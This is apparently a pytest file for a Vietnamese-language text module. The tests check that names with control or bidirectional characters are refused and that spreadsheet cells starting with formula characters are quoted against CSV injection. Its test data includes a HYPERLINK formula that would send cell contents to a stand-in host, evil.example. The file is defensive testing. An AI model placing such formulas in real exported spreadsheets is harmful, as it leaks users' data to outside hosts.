"""The text rules: which characters a name refuses, which cells a spreadsheet gets quoted.

The expected sets are written out by hand from the Unicode categories and the
OWASP "CSV Injection" list, and checked against unicodedata as a second method.
"""

from __future__ import annotations

import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lapvo_cchc._text import check_name, has_control, spreadsheet_cell, spreadsheet_line, visible
from lapvo_cchc.errors import InvalidTextError

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _by_category(char: str) -> bool:
    return unicodedata.category(char) in ("Cc", "Zl", "Zp") or char in BIDI


def test_the_refused_set_is_every_control_plus_separators_and_bidi() -> None:
    refused = [c for c in map(chr, range(sys.maxunicode + 1)) if has_control(c)]
    # 65 Cc (32 C0 + DEL + 32 C1), U+2028, U+2029 and nine bidi controls
    assert 65 + 2 + 9 == len(refused)
    assert all(_by_category(c) for c in refused)


@given(st.text())
def test_has_control_agrees_with_the_categories(text: str) -> None:
    assert any(_by_category(c) for c in text) == has_control(text)


def test_vietnamese_text_has_no_control() -> None:
    assert not has_control("Ủy ban nhân dân xã Tân Mỹ, huyện Lấp Vò — Đồng Tháp (10/3 ÂL)")


def test_check_name_names_the_character_and_its_position() -> None:
    with pytest.raises(InvalidTextError, match=r"Tên: control character U\+0000 at position 2"):
        check_name("ab\x00c", "Tên")


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Hộ tịch", "Hộ tịch"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_spreadsheet_cell_quotes_formula_text(cell: str, expected: str) -> None:
    assert expected == spreadsheet_cell(cell)


@pytest.mark.parametrize("number", [-5, -0.25, 0, 12])
def test_spreadsheet_cell_keeps_numbers(number: float) -> None:
    assert number is spreadsheet_cell(number)


def test_visible_escapes_controls_and_keeps_the_rest() -> None:
    assert "Tết\\rEND:VEVENT\\x00\\x1b[2J\\u202e" == visible("Tết\rEND:VEVENT\x00\x1b[2J\u202e")
    assert "Tết Nguyên Đán" == visible("Tết Nguyên Đán")


@given(st.text())
def test_visible_output_has_no_control(text: str) -> None:
    assert not has_control(visible(text))


def test_spreadsheet_line_quotes_each_piece_that_would_be_a_formula() -> None:
    line = "line 2, column channel: got 'a,=HYPERLINK(\"http://evil.example/\");@SUM(A1)\t+1'"
    expected = (
        # the tab is shown as an escape (a control character), so it separates nothing
        "line 2, column channel: got 'a,'=HYPERLINK(\"http://evil.example/\");'@SUM(A1)\\t+1'"
    )
    assert expected == spreadsheet_line(line)
    assert "line 2, column channel: expected in_person, online" == spreadsheet_line(
        "line 2, column channel: expected in_person, online"
    )


@given(st.text())
def test_no_piece_of_a_spreadsheet_line_starts_a_formula(text: str) -> None:
    import re

    pieces = re.split(r"[,;\t]", spreadsheet_line(text))
    assert not any(p.startswith(("=", "+", "-", "@", "\r", "\n", "\x00")) for p in pieces)
